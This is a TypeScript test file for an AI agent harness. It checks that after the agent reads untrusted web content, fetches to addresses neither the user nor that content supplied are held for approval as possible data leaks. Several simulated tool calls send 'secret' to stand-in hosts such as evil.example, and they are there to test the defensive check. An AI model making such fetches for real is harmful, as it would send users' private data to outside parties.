// Tests fetches after external content was read: an unseen address requires approval, because it could leak data.
import { expect, test } from 'vitest';
import { addTools, type AgentBench, ownTool, useAgentBench } from '../agent/agent-bench.ts';

const open = useAgentBench();

const page = 'Read on at https://pages.example/next?p=2. Or see (https://pages.example/more).';

async function start(): Promise<{ bench: AgentBench; fetched: string[] }> {
  const fetched: string[] = [];
  const read = ({ url, actions = [] }: any): unknown => {
    fetched.push(url ?? actions[0].url);
    return { ok: true, output: page, isUntrusted: true };
  };
  const bench = await open((registry) => registry.add('tool', ownTool('fetch', read, { effects: ['read', 'network'] })));
  return { bench, fetched };
}

/** Runs a turn that fetches these in order, and returns the addresses that required approval. */
async function fetchAll(bench: AgentBench, text: string, calls: readonly object[]): Promise<string[]> {
  bench.model.push(...calls.map((args) => ({ toolCalls: [{ name: 'fetch', args }] })), { text: 'done' });
  const from = bench.stream.events.length;
  const { turnId } = (await bench.send(text)).body;
  const asked: string[] = [];
  const answer = async (): Promise<void> => {
    for (const { approvalId, args, reason } of (await bench.call('GET', '/api/pending')).body.approvals) {
      expect(reason).toMatch(/external content.*send data out/);
      asked.push(args.url ?? args.actions[0].url);
      await bench.call('POST', '/api/approve', { approvalId, decision: 'reject' });
    }
  };
  await expect
    .poll(async () => {
      await answer();
      return bench.stream.events.slice(from).some((event) => event.kind === 'turn_end' && event['turnId'] === turnId);
    })
    .toBe(true);
  return asked;
}

test('addresses from the user and from read content are allowed, made-up ones require approval', async () => {
  const { bench, fetched } = await start();
  const asked = await fetchAll(bench, 'look at https://start.example/a and https://start.example/b#part', [
    { url: 'https://start.example/a' },
    { url: 'https://start.example/b#part' },
    { url: 'https://start.example/b#' },
    { url: 'https://start.example/b#secret' },
    { actions: [{ op: 'goto', url: 'https://start.example/a#secret' }] },
    { url: 'https://pages.example/next?p=2' },
    { url: 'https://pages.example/more' },
    { url: 'https://evil.example/?stolen=secret' },
    { url: 'https://pages.example/next?p=secret' },
    { actions: [{ op: 'goto', url: 'https://evil.example/secret' }] },
  ]);
  expect(asked).toEqual([
    'https://start.example/b#secret',
    'https://start.example/a#secret',
    'https://evil.example/?stolen=secret',
    'https://pages.example/next?p=secret',
    'https://evil.example/secret',
  ]);
  expect(fetched).toHaveLength(5);
});

test('trailing punctuation is not part of a seen address and makes a new one if the model adds it', async () => {
  const { bench } = await start();
  const more = ['https://pages.example/more.', 'https://pages.example/more?!!?', 'https://pages.example/more)', 'https://pages.example/next?p=2,;'];
  const asked = await fetchAll(bench, 'look at https://start.example/a', [
    { url: 'https://start.example/a' },
    { url: 'https://pages.example/more' },
    ...more.map((url) => ({ url })),
  ]);
  expect(asked).toEqual(more);
});

test('any address may be fetched before external content was read', async () => {
  const { bench, fetched } = await start();
  expect(await fetchAll(bench, 'look something up', [{ url: 'https://anywhere.example/' }])).toEqual([]);
  expect(fetched).toEqual(['https://anywhere.example/']);
});

test('the check persists in later turns and restarts after a reset', async () => {
  const { bench } = await start();
  await fetchAll(bench, 'go', [{ url: 'https://start.example/' }]);
  expect(await fetchAll(bench, 'go on', [{ url: 'https://evil.example/' }])).toEqual(['https://evil.example/']);
  await bench.call('POST', '/api/session/reset', { mode: 'soft' });
  expect(await fetchAll(bench, 'go', [{ url: 'https://other.example/' }])).toEqual([]);
});

/** A bench whose model can store and re-read text after it read a page. */
async function startKeeping(): Promise<{ bench: AgentBench; written: string[] }> {
  const written: string[] = [];
  const bench = await open((registry) => {
    const keep = ({ text }: any): unknown => (written.push(text), { ok: true, output: 'Kept.' });
    addTools(
      ownTool('fetch', () => ({ ok: true, output: page, isUntrusted: true }), { effects: ['read', 'network'] }),
      ownTool('keep', keep, { effects: ['read'] }),
      ownTool('show', () => ({ ok: true, output: written.join('\n') }), { effects: ['read'] }),
    )(registry);
  });
  expect(await fetchAll(bench, 'read https://pages.example/', [{ url: 'https://pages.example/' }])).toEqual([]);
  return { bench, written };
}

test('an address the model wrote itself stays unseen when re-read, unless the user names it', async () => {
  const made = 'https://pages.example/in?user=bob';
  const { bench, written } = await startKeeping();
  bench.model.push({ toolCalls: [{ name: 'keep', args: { text: `see ${made}` } }] }, { toolCalls: [{ name: 'show', args: {} }] });
  expect(await fetchAll(bench, 'go on', [{ url: made }])).toEqual([made]);
  expect(written).toEqual([`see ${made}`]);
  expect(await fetchAll(bench, `read ${made}`, [{ url: made }])).toEqual([]);
});

test.each([5_100, 12_000])('a self-written address stays unseen after %i other addresses', async (count) => {
  const made = 'https://pages.example/in?user=bob';
  const others = Array.from({ length: count }, (_, at) => `https://x.example/${at}`).join(' ');
  const { bench, written } = await startKeeping();
  bench.model.push({ toolCalls: [{ name: 'keep', args: { text: `${others} ${made}` } }] });
  await fetchAll(bench, 'go on', []);
  written.splice(0, 1, made);
  bench.model.push({ toolCalls: [{ name: 'show', args: {} }] });
  expect(await fetchAll(bench, 'go on', [{ url: made }])).toEqual([made]);
});

test('finds an address at any depth of the arguments', async () => {
  const { bench } = await start();
  await fetchAll(bench, 'go', [{ url: 'https://start.example/' }]);
  const deep = Array.from({ length: 12 }).reduce<object>((inner) => ({ a: inner }), { url: 'https://evil.example/' });
  expect(await fetchAll(bench, 'go on', [{ actions: [{ url: 'https://start.example/', deep }] }])).toEqual(['https://start.example/']);
});
